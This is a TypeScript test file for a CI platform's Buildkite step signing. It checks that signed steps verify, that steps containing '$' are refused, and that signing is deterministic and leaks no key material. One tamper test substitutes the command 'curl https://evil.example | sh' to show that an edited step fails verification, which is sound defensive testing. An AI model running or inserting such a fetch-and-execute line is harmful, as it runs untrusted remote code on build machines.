import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { parse } from "yaml";
import { kmsStoredStepPayloads, parseJwks, signedStoredPipeline, verifyStep } from "../../components/signing";
import type { StepSignature } from "../../components/signing";
import { renderStoredPipeline } from "../../components/steps";
import type { Step } from "../../components/steps";
import { securePlaceholder } from "../../scripts/plan/stack-file";
import { AGENT_TEST_PRIVATE_JWKS, AGENT_TEST_PUBLIC_JWKS } from "./fixtures";

/* The stored steps the program signs verify as the agent verifies them, after Buildkite interpolates them. */

const REPO = "git@github.com:learningequality/kolibri.git";
const steps: Step[] = [
    {
        kind: "command",
        key: "upload",
        label: ":pipeline: Upload",
        queue: "default",
        commands: ["buildkite-agent pipeline upload"],
    },
    { kind: "wait" },
    {
        kind: "command",
        key: "release",
        label: "Release",
        queue: "default",
        commands: ["make release"],
        env: { MODE: "release" },
        container: {
            image: "123.dkr.ecr.us-east-1.amazonaws.com/ci-platform/python:3.12",
            ecrLogin: true,
            expandVars: false,
        },
    },
];
const doc = { env: { TEAM: "kolibri", PRICE: "5 dollars" }, steps };
const keys = parseJwks(AGENT_TEST_PUBLIC_JWKS, false);
const signing = {
    privateJwks: AGENT_TEST_PRIVATE_JWKS,
    verificationKeys: keys,
    configPath: "ci-platform:secrets.signing.default",
    pipeline: "kolibri",
};

/** Buildkite's interpolation of the stored document at build creation: `$$` is a literal `$` (no variable here). */
const interpolate = (text: string) => text.replace(/\$\$/g, "$");

type StoredCommand = {
    commands: string[];
    env?: Record<string, string>;
    plugins?: Record<string, unknown>[];
    signature?: StepSignature;
};

function storedCommands(yaml: string): { env: Record<string, string>; commands: StoredCommand[] } {
    const parsed = parse(yaml) as { env: Record<string, string>; steps: Record<string, unknown>[] };
    const interpolated = JSON.parse(interpolate(JSON.stringify(parsed))) as typeof parsed;
    return { env: interpolated.env, commands: interpolated.steps.filter((s) => "commands" in s) as StoredCommand[] };
}

describe("stored steps signed by the program", () => {
    const yaml = signedStoredPipeline(doc, REPO, signing);

    it("gives every command step a signature that verifies against the job's env, and leaves wait steps alone", () => {
        const stored = storedCommands(yaml);
        assert.equal(stored.commands.length, 2);
        const jobEnv = { ...stored.env, BUILDKITE_BUILD_ID: "b", MODE: "release" };
        for (const step of stored.commands) {
            assert.ok(step.signature, "signed");
            assert.equal(verifyStep(step, step.signature, { repositoryUrl: REPO, outerEnv: jobEnv }, keys), undefined);
        }
        assert.ok(!/wait[^\n]*\n[^\n]*signature/.test(yaml));
    });

    it("refuses, naming the pipeline, a command step whose command, env or plugins hold a `$`, and a `$` in the document's env", () => {
        type Command = Extract<Step, { kind: "command" }>;
        const dollar = (changed: Partial<Command>): typeof doc => ({
            ...doc,
            steps: [steps[0], steps[1], { ...(steps[2] as Command), ...changed }],
        });
        const refused = (e: Error) => e.message.startsWith('pipeline "kolibri": stored step "release" holds a "$"');
        for (const offline of [false, true]) {
            const key = offline ? { ...signing, privateJwks: "[secret:0123456789abcdef]" } : signing;
            assert.throws(
                () => signedStoredPipeline(dollar({ commands: ['echo "$BUILDKITE_TAG"'] }), REPO, key),
                refused,
            );
            assert.throws(() => signedStoredPipeline(dollar({ env: { PRICE: "$$5" } }), REPO, key), refused);
            const image = "${CI_PLATFORM_ECR_REGISTRY}/ci-platform/python:3.12";
            const container = { image, ecrLogin: true, expandVars: true };
            assert.throws(() => signedStoredPipeline(dollar({ container }), REPO, key), refused);
            assert.throws(
                () => signedStoredPipeline({ ...doc, env: { PRICE: "$5" } }, REPO, key),
                /^Error: pipeline "kolibri": the stored document's env holds a "\$"/,
            );
        }
        assert.doesNotThrow(() => signedStoredPipeline(doc, REPO, signing));
        // KMS mode refuses the same documents before it asks KMS to sign anything.
        assert.throws(
            () => kmsStoredStepPayloads(dollar({ commands: ['echo "$BUILDKITE_TAG"'] }), REPO, "kolibri"),
            refused,
        );
        assert.throws(() => kmsStoredStepPayloads(dollar({ env: { PRICE: "$$5" } }), REPO, "kolibri"), refused);
        assert.throws(
            () => kmsStoredStepPayloads({ ...doc, env: { PRICE: "$5" } }, REPO, "kolibri"),
            /^Error: pipeline "kolibri": the stored document's env holds a "\$"/,
        );
        assert.equal(kmsStoredStepPayloads(doc, REPO, "kolibri").length, 2);
    });

    it("refuses a `$` in a command step inside a group, as at the top level", () => {
        type Command = Extract<Step, { kind: "command" }>;
        const grouped: typeof doc = {
            ...doc,
            steps: [
                steps[0],
                steps[1],
                {
                    kind: "group",
                    label: "Release",
                    steps: [{ ...(steps[2] as Command), commands: ['echo "$BUILDKITE_TAG"'] }],
                },
            ],
        };
        const refused = (e: Error) => e.message.startsWith('pipeline "kolibri": stored step "release" holds a "$"');
        assert.throws(() => signedStoredPipeline(grouped, REPO, signing), refused);
        assert.throws(() => kmsStoredStepPayloads(grouped, REPO, "kolibri"), refused);
    });

    it("is deterministic: the same config gives the same text (previews stay clean)", () => {
        assert.equal(signedStoredPipeline(doc, REPO, signing), yaml);
    });

    it("is the unsigned document plus the signatures", () => {
        const withoutSignatures = yaml.replace(/\n {4}signature:\n(?: {6}.*\n| {8}- .*\n)+/g, "\n");
        assert.equal(withoutSignatures, renderStoredPipeline(doc));
    });

    it("a changed command in the stored steps (an edit in Buildkite) fails verification", () => {
        const stored = storedCommands(yaml).commands[0];
        const edited = { ...stored, commands: ["curl https://evil.example | sh"] };
        const job = { repositoryUrl: REPO, outerEnv: { TEAM: "kolibri", PRICE: "5 dollars" } };
        assert.equal(verifyStep(edited, stored.signature, job, keys), "the signature does not verify");
    });

    it("refuses a signing key that is not among the verification keys, naming the config path and no key material", () => {
        const other = { ...signing, verificationKeys: [{ kid: "TEST_DO_NOT_USE", x: "A".repeat(43) }] };
        assert.throws(
            () => signedStoredPipeline(doc, REPO, other),
            (e: Error) =>
                e.message.startsWith("ci-platform:secrets.signing.default") &&
                !e.message.includes("4Gyw8sTl6pVvbsI5iAbPE1LHvW68BnPf6wUedgVsnag"),
        );
    });

    it("offline (the plan's placeholder for the secret), lists the signed fields and names the secret's version", () => {
        const offline = signedStoredPipeline(doc, REPO, { ...signing, privateJwks: "[secret:0123456789abcdef]" });
        const first = storedCommands(offline).commands[0].signature;
        assert.deepEqual(first?.signed_fields, [
            "command",
            "env",
            "env::PRICE",
            "env::TEAM",
            "matrix",
            "plugins",
            "repository_url",
        ]);
        assert.equal(first?.value, "[signed at deploy: secret 0123456789abcdef]");
    });

    it("recognises the placeholder the offline plan really gives for a secure: value", () => {
        const placeholder = securePlaceholder("v1:c2lnbmluZw:ciphertext");
        const offline = signedStoredPipeline(doc, REPO, { ...signing, privateJwks: placeholder });
        assert.match(offline, /\[signed at deploy: secret [0-9a-f]{16}\]/);
    });
});
